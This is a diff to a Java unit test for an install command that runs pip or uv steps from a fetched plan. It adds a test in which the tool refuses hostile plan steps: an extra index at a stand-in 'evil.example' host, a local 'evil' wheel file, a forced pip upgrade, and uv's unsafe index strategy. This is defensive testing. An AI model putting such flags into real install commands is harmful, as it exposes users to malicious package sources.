@@ -23,6 +23,12 @@ import tools.jackson.databind.json.JsonMapper;
 class InstallCommandTest {
 
     private static final String PLAN = Resources.text("/plans/cu126-with-pypi-step.json");
+    /** The plan for torch (and torchvision) alone: no second step. */
+    private static final String PYTORCH_ONLY_PLAN = "{\"backend\":\"cu126\",\"channel\":\"stable\",\"packages\":["
+            + "{\"name\":\"torch\",\"version\":\"2.12.0+cu126\"},{\"name\":\"torchvision\",\"version\":\"0.27.0+cu126\"}],"
+            + "\"steps\":[{\"description\":\"PyTorch\",\"argv\":[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+            + "\"https://download.pytorch.org/whl/cu126\",\"torch==2.12.0+cu126\",\"torchvision==0.27.0+cu126\"]}],"
+            + "\"explanation\":[],\"warnings\":[]}";
 
     @TempDir
     Path directory;
@@ -85,16 +91,18 @@ class InstallCommandTest {
     @Test
     void theFirstFailingStepEndsTheInstallWithItsExitCode() {
         answer(planWithSteps(
-                "[\"python\",\"-m\",\"pip\",\"install\",\"torch==2.12.0+cpu\"]",
-                "[\"python\",\"-m\",\"pip\",\"install\",\"fail==9\"]",
-                "[\"python\",\"-m\",\"pip\",\"install\",\"never-installed==1.0\"]"));
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
+                        + "\"torch==2.12.0+cpu\"]",
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\",\"fail==9\"]",
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\","
+                        + "\"never-installed==1.0\"]"));
 
-        CommandLineRun run = install("torch");
+        CommandLineRun run = install("torch", "fail", "never-installed");
 
-        assertThat(run.exitCode()).isEqualTo(9);
+        assertThat(run.exitCode()).as(run.err()).isEqualTo(9);
         assertThat(python.invocations()).containsExactly(
-                List.of("-m", "pip", "install", "torch==2.12.0+cpu"),
-                List.of("-m", "pip", "install", "fail==9"));
+                List.of("-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu", "torch==2.12.0+cpu"),
+                List.of("-m", "pip", "install", "--index-url", "https://pypi.org/simple", "fail==9"));
         assertThat(run.out()).contains("step 2 (step 2) failed with exit code 9").doesNotContain("torchplan: installed");
     }
 
@@ -102,7 +110,7 @@ class InstallCommandTest {
     void pipRunsWithTheEnvironmentTheClientWasGiven() {
         environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
                 "PIP_CONFIG_FILE", "/dev/null");
-        answer(PLAN);
+        answer(PYTORCH_ONLY_PLAN);
 
         CommandLineRun run = install("torch");
 
@@ -114,7 +122,7 @@ class InstallCommandTest {
     void dryRunPrintsTheCommandsAndRunsNothing() {
         answer(PLAN);
 
-        CommandLineRun run = install("torch", "--dry-run");
+        CommandLineRun run = install("torch", "transformers", "--dry-run");
 
         assertThat(run.exitCode()).isZero();
         assertThat(python.invocations()).isEmpty();
@@ -135,6 +143,34 @@ class InstallCommandTest {
     }
 
     @Test
+    void aStepReadingAnotherIndexOrInstallingALocalFileOrPipMeansNothingRuns() {
+        String pytorchStep = "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://download.pytorch.org/whl/cpu\",\"torch==2.12.0+cpu\"]";
+        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://pypi.org/simple\",\"--extra-index-url\",\"https://evil.example/simple\",\"numpy\"]"));
+        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://pypi.org/simple\",\"evil-1.0-py3-none-any.whl\"]"));
+        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://pypi.org/simple\",\"--upgrade\",\"--force-reinstall\",\"pip\"]"));
+        answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--python\",\"python\",\"--index-url\","
+                + "\"https://download.pytorch.org/whl/cpu\",\"--index-strategy\",\"unsafe-best-match\",\"torch==2.12.0+cpu\"]"));
+
+        CommandLineRun extraIndex = install("torch", "numpy");
+        CommandLineRun localFile = install("torch", "numpy");
+        CommandLineRun pipUpgrade = install("torch", "numpy");
+        CommandLineRun indexStrategy = install("torch", "--installer", "uv");
+
+        assertThat(List.of(extraIndex.exitCode(), localFile.exitCode(), pipUpgrade.exitCode(), indexStrategy.exitCode()))
+                .containsOnly(3);
+        assertThat(python.invocations()).isEmpty();
+        assertThat(extraIndex.err()).contains("refusing to run step 2 of the plan: --extra-index-url "
+                + "https://evil.example/simple is not one of the plan's indexes");
+        assertThat(localFile.err()).contains("'evil-1.0-py3-none-any.whl' is not a requirement by name");
+        assertThat(pipUpgrade.err()).contains("option '--upgrade'");
+        assertThat(indexStrategy.err()).contains("uv's --index-strategy");
+    }
+
+    @Test
     void uvStepsArePointedAtTheInterpreter() {
         answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
                 + "\"torch==2.12.0+cpu\"]"));
@@ -151,7 +187,7 @@ class InstallCommandTest {
         Files.writeString(directory.resolve("base.txt"), "numpy>=2  # arrays\n");
         Path file = Files.writeString(directory.resolve("requirements.txt"),
                 "# ML\ntorchvision \\\n  >=0.20\n-r base.txt\n");
-        answer(PLAN);
+        answer(PYTORCH_ONLY_PLAN);
 
         CommandLineRun run = install("torch", "-r", file.toString(), "--dry-run");
 
@@ -164,7 +200,7 @@ class InstallCommandTest {
     void anIndexLineInARequirementsFileIsReplacedByThePlansIndexesWithANotice() throws IOException {
         Path file = Files.writeString(directory.resolve("requirements.txt"),
                 "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n");
-        answer(PLAN);
+        answer(PYTORCH_ONLY_PLAN);
 
         CommandLineRun run = install("-r", file.toString());
 
@@ -284,7 +320,7 @@ class InstallCommandTest {
                 "VIRTUAL_ENV", venv.toString());
         answer(PLAN);
 
-        CommandLineRun run = CommandLineRun.run(environment, "install", "torch");
+        CommandLineRun run = CommandLineRun.run(environment, "install", "torch", "transformers");
 
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(venvPython.invocations()).hasSize(2);
@@ -295,7 +331,8 @@ class InstallCommandTest {
     void systemInstallsIntoPython3OnPath() {
         answer(PLAN);
 
-        CommandLineRun run = CommandLineRun.run(environment, "install", "--system", "torch", "--dry-run");
+        CommandLineRun run = CommandLineRun.run(environment, "install", "--system", "torch", "transformers",
+                "--dry-run");
 
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(run.out()).contains("    python3 -m pip install --index-url https://download.pytorch.org/whl/cu126");
